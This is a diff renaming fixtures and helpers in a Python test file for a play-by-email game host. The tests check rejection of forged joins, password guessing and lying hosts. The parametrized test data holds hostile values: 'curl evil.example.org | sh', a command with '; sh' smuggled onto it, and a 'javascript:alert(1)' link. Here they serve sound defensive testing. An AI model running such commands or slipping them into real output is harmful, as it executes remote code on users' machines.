@@ -2,7 +2,7 @@
 
 import json
 import time
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 from dataclasses import replace
 from http.server import BaseHTTPRequestHandler
 from pathlib import Path
@@ -14,12 +14,19 @@ import urllib3
 from pbem.files.home import Home
 from pbem.judge.sign import Plan, make_charter
 from pbem.mail.sending import bundle
-from pbem.records.read_record import read
-from tests.host.dealing import FORM, POOL, everybody_joins, page_of, start_game, wait_for_turn
+from tests.host.dealing import (
+    FORM,
+    POOL,
+    everybody_joins,
+    game_from_form,
+    response_of_host,
+    wait_for_turn,
+)
 from tests.host.host_games import bot_answers
 from tests.host.lying_host import LyingHost, answer_with
 from tests.kit.people import NOW, Round, key_of, output_of
 from tests.kit.processes import until
+from tests.kit.record_files import record_at
 from tests.kit.running_host import HostProcess
 from tests.kit.small_mail_servers import BO, RHEA, mail_host, use_small_servers
 from tests.post.collecting import mail_with_text
@@ -27,20 +34,11 @@ from tests.post.collecting import mail_with_text
 pytestmark = pytest.mark.host
 
 
-@pytest.fixture
-def dealing(tmp_path: Path) -> Iterator[HostProcess]:
-    host = HostProcess(
-        str(tmp_path / "data"), tmp_path / "owner", "--deal", SOURCE_DATE_EPOCH=str(NOW)
-    )
-    yield host
-    host.stop()
-
-
 def test_a_copy_of_a_game_at_another_address_is_not_dealt_instead(
-    dealing: HostProcess, table: Round
+    dealing_host: HostProcess, table: Round
 ):
     """Eve, who knows the address of a game, makes a game of the same charter at one of her own."""
-    people = everybody_joins(dealing, table, FORM | {"players": "Ann,Bo"})
+    people = everybody_joins(dealing_host, table, FORM | {"players": "Ann,Bo"})
     address = people[0].env["PBEM_FOLDER"]
     wait_for_turn(address, 1)
     there = [
@@ -49,18 +47,18 @@ def test_a_copy_of_a_game_at_another_address_is_not_dealt_instead(
         if line
     ]
     for n in range(8):  # whatever the order in which the host finds them
-        copy = f"{dealing.url}/g/{n:032x}"
+        copy = f"{dealing_host.url}/g/{n:032x}"
         for path in sorted(there, key=lambda path: (path != "game.toml", "turns" in path)):
             data = POOL.request("GET", f"{address}/{path}").data
             said = POOL.request("PUT", f"{copy}/{path}", body=data, headers={"If-None-Match": "*"})
             assert said.status == 201, said.data
-    dealing.stop()
-    dealing.start()
+    dealing_host.stop()
+    dealing_host.start()
     for who, seat in zip(people, "ab", strict=True):
         bot_answers(who, address, seat)
     wait_for_turn(address, 2)
     time.sleep(1)
-    assert b"turns/0002" not in POOL.request("GET", f"{dealing.url}/g/{0:032x}/").data
+    assert b"turns/0002" not in POOL.request("GET", f"{dealing_host.url}/g/{0:032x}/").data
 
 
 def test_hosts_with_different_keys_over_one_place_both_deal(tmp_path: Path, table: Round):
@@ -81,7 +79,7 @@ def test_hosts_with_different_keys_over_one_place_both_deal(tmp_path: Path, tabl
 def test_a_game_made_at_the_host_that_waits_is_dealt_by_the_other(tmp_path: Path, table: Round):
     data, now = str(tmp_path / "data"), str(NOW)
     one = HostProcess(data, tmp_path / "one", "--deal", SOURCE_DATE_EPOCH=now)
-    start_game(one, FORM)  # it deals
+    game_from_form(one, FORM)  # it deals
     key = Home(tmp_path / "one" / "dealer").read_key("default")
     Home(tmp_path / "two" / "dealer").write_key("default", key)
     two = HostProcess(data, tmp_path / "two", "--deal", SOURCE_DATE_EPOCH=now)
@@ -93,20 +91,20 @@ def test_a_game_made_at_the_host_that_waits_is_dealt_by_the_other(tmp_path: Path
         one.stop()
 
 
-def test_odd_requests_get_a_sentence(dealing: HostProcess):
-    game = start_game(dealing, FORM)
+def test_odd_requests_get_a_sentence(dealing_host: HostProcess):
+    game = game_from_form(dealing_host, FORM)
     digits = game["address"][-32:]
-    assert page_of(dealing, f"/new/{digits}/%C3%A9").status == 404
-    assert page_of(dealing, f"/new/{'0' * 32}/{'0' * 32}").status == 404
-    assert page_of(dealing, "/new/x/y").status == 404
-    said = page_of(dealing, "/new", {f"field{n}": "1" for n in range(60)})
+    assert response_of_host(dealing_host, f"/new/{digits}/%C3%A9").status == 404
+    assert response_of_host(dealing_host, f"/new/{'0' * 32}/{'0' * 32}").status == 404
+    assert response_of_host(dealing_host, "/new/x/y").status == 404
+    said = response_of_host(dealing_host, "/new", {f"field{n}": "1" for n in range(60)})
     assert said.status == 400
     assert b"too many fields" in said.data
 
 
-def test_several_tables_dealt_by_oneself_are_several_commands(dealing: HostProcess):
+def test_several_tables_dealt_by_oneself_are_several_commands(dealing_host: HostProcess):
     form = FORM | {"players": "Al,Bo,Cy,Di", "each": "2", "dealer": "me"}
-    assert page_of(dealing, "/new", form).data.decode().count('value="pbem new ') == 2
+    assert response_of_host(dealing_host, "/new", form).data.decode().count('value="pbem new ') == 2
 
 
 def test_a_word_that_the_browser_sends_by_itself_makes_no_game(tmp_path: Path):
@@ -127,19 +125,22 @@ def test_a_word_that_the_browser_sends_by_itself_makes_no_game(tmp_path: Path):
     try:
         assert sent("correct-horse", FORM) == 400
         assert sent("the-owners-password", FORM | {"token": "correct-horse"}) == 303
-        guesses = [page_of(host, "/new", FORM | {"token": f"guess-{n}"}).status for n in range(130)]
+        guesses = [
+            response_of_host(host, "/new", FORM | {"token": f"guess-{n}"}).status
+            for n in range(130)
+        ]
         assert guesses[-1] == 429, "nobody tries out many words"
     finally:
         host.stop()
 
 
-def test_one_game_that_cannot_be_read_stops_no_other(dealing: HostProcess, table: Round):
-    people = everybody_joins(dealing, table, FORM | {"players": "Ann,Bo"})
+def test_one_game_that_cannot_be_read_stops_no_other(dealing_host: HostProcess, table: Round):
+    people = everybody_joins(dealing_host, table, FORM | {"players": "Ann,Bo"})
     address = people[0].env["PBEM_FOLDER"]
     wait_for_turn(address, 1)
-    folders = set(Path(dealing.data).glob("?" * 32))
-    start_game(dealing, FORM)
-    (other,) = set(Path(dealing.data).glob("?" * 32)) - folders
+    folders = set(Path(dealing_host.data).glob("?" * 32))
+    game_from_form(dealing_host, FORM)
+    (other,) = set(Path(dealing_host.data).glob("?" * 32)) - folders
     other.rename(other.with_name("elsewhere"))
     other.write_text("the disk is not what it was")
     time.sleep(5)  # the host looks at it now and then
@@ -149,45 +150,46 @@ def test_one_game_that_cannot_be_read_stops_no_other(dealing: HostProcess, table
 
 
 def test_nobody_gets_mail_because_a_join_came_in_their_name(
-    dealing: HostProcess, table: Round, tmp_path: Path
+    dealing_host: HostProcess, table: Round, tmp_path: Path
 ):
     """Eve has all invites of the game that she started. She writes to the host in Bo's name."""
-    game = start_game(dealing, FORM | {"players": "Eve,Bo"})
+    game = game_from_form(dealing_host, FORM | {"players": "Eve,Bo"})
     eve = table.person("eve")
     copy = tmp_path / "copy"
     copy.mkdir()
     (copy / "game.toml").write_bytes(POOL.request("GET", f"{game['address']}/game.toml").data)
     invite = game["seats"][1]["command"].rpartition(" ")[2]
     output_of(eve, f"join -C {copy} --invite {invite}")
-    text = bundle([read(next((copy / "seats").iterdir()).read_bytes())], "join")
-    owner = replace(table.person("owner"), home=dealing.home / "dealer")
+    text = bundle([record_at(next((copy / "seats").iterdir()))], "join")
+    owner = replace(table.person("owner"), home=dealing_host.home / "dealer")
     with mail_host() as host:
         use_small_servers(owner, host)
         host.put(RHEA, mail_with_text(BO, text))
-        dealing.stop()
-        dealing.start()
+        dealing_host.stop()
+        dealing_host.start()
         listed = f"{game['address']}/"
         is_read = lambda: b"seats/b" in POOL.request("GET", listed).data  # noqa: E731
-        until(is_read, every=0.5, why=dealing.log.read_text)
+        until(is_read, every=0.5, why=dealing_host.log.read_text)
         time.sleep(3)
         assert host.mails(BO) == []
     assert "b Bo: -" in owner.pbem(f"post address -C {game['address']}").out
 
 
 INVITE = "pond:a:X:0:Y"
+COMMAND = f"pbem join -C http://pond.example.org/g/{'5eed' * 8} --invite {INVITE}"
 GAME = {
     "title": "pond", "address": f"http://pond.example.org/g/{'5eed' * 8}",
     "page": f"/new/{'5eed' * 8}/{'5eed' * 8}",
     "seats": [
         {
             "name": "Ann", "link": "",
-            "command": f"pbem join -C http://pond.example.org/g/{'5eed' * 8} --invite {INVITE}",
+            "command": COMMAND,
         }
     ],
 }  # fmt: skip
 
 
-def changed(change: Callable[[Any], Any]) -> bytes:
+def changed_game(change: Callable[[Any], Any]) -> bytes:
     """The answer of a host to `pbem new --dealer host`, with something else in it."""
     game = json.loads(json.dumps(GAME))
     return json.dumps(change(game) or [game]).encode()
@@ -197,31 +199,37 @@ def changed(change: Callable[[Any], Any]) -> bytes:
     "data",
     [
         b"\xff", b"null", b"[]", b"[[]]", b"{}", b"[1]", b"[" * 100_000, b"1" * 10_000,
-        changed(lambda game: [game, game]),
-        changed(lambda game: game.pop("address")),
-        changed(lambda game: game.update(title=None)),
-        changed(lambda game: game.update(title="pond\nerror: you lost")),
-        changed(lambda game: game.update(page="http://evil.example.org/")),
-        changed(lambda game: game.update(seats=None)),
-        changed(lambda game: game.update(seats=["Ann"])),
-        changed(lambda game: game["seats"][0].update(command="curl evil.example.org | sh")),
-        changed(lambda game: game["seats"][0].update(command=GAME["seats"][0]["command"] + "; sh")),
-        changed(lambda game: game["seats"][0].update(link="javascript:alert(1)")),
-        changed(lambda game: game["seats"][0].update(name={"Ann": 1})),
+        changed_game(lambda game: [game, game]),
+        changed_game(lambda game: game.pop("address")),
+        changed_game(lambda game: game.update(title=None)),
+        changed_game(lambda game: game.update(title="pond\nerror: you lost")),
+        changed_game(lambda game: game.update(page="http://evil.example.org/")),
+        changed_game(lambda game: game.update(seats=None)),
+        changed_game(lambda game: game.update(seats=["Ann"])),
+        changed_game(lambda game: game["seats"][0].update(command="curl evil.example.org | sh")),
+        changed_game(lambda game: game["seats"][0].update(command=COMMAND + "; sh")),
+        changed_game(lambda game: game["seats"][0].update(link="javascript:alert(1)")),
+        changed_game(lambda game: game["seats"][0].update(name={"Ann": 1})),
     ],
 )  # fmt: skip
-def test_a_host_that_lies_about_the_game_that_it_made(liar: LyingHost, table: Round, data: bytes):
+def test_a_host_that_lies_about_the_game_that_it_made(
+    lying_host: LyingHost, table: Round, data: bytes
+):
     """People type the lines that it answers with, and send them to their friends."""
-    words = f"new pond --players Ann,Bo --at {liar.url} --dealer host"
-    liar.answer = dealt(liar, automaton=True)
-    assert f"pbem join -C {liar.address} --invite {INVITE}" in output_of(table.person("ann"), words)
-    liar.answer = answer_with(201, data, "application/json")
+    words = f"new pond --players Ann,Bo --at {lying_host.url} --dealer host"
+    lying_host.answer = answers_with_charter(lying_host, automaton=True)
+    assert f"pbem join -C {lying_host.address} --invite {INVITE}" in output_of(
+        table.person("ann"), words
+    )
+    lying_host.answer = answer_with(201, data, "application/json")
     said = table.person("ann").pbem(words)
     assert (said.exit, said.out) == (7, ""), said
     assert "what answers here is no host of games" in said.err
 
 
-def dealt(liar: LyingHost, *, automaton: bool) -> Callable[[BaseHTTPRequestHandler], None]:
+def answers_with_charter(
+    liar: LyingHost, *, automaton: bool
+) -> Callable[[BaseHTTPRequestHandler], None]:
     """The answers of a host that made a game with such a charter."""
     plan = Plan("pond", "the host", "evolution", ["Ann", "Bo"], automaton=automaton)
     charter = make_charter(plan, key_of("host"), bytes(16)).file
@@ -239,9 +247,11 @@ def dealt(liar: LyingHost, *, automaton: bool) -> Callable[[BaseHTTPRequestHandl
     return answer
 
 
-def test_a_host_that_calls_itself_a_person_is_refused(liar: LyingHost, table: Round):
+def test_a_host_that_calls_itself_a_person_is_refused(lying_host: LyingHost, table: Round):
     """Its word would count as the second person's, together with one player."""
-    liar.answer = dealt(liar, automaton=False)
-    said = table.person("ann").pbem(f"new pond --players Ann,Bo --at {liar.url} --dealer host")
+    lying_host.answer = answers_with_charter(lying_host, automaton=False)
+    said = table.person("ann").pbem(
+        f"new pond --players Ann,Bo --at {lying_host.url} --dealer host"
+    )
     assert (said.exit, said.out) == (4, "")
     assert "whose charter does not say that a host deals, so its word would count" in said.err
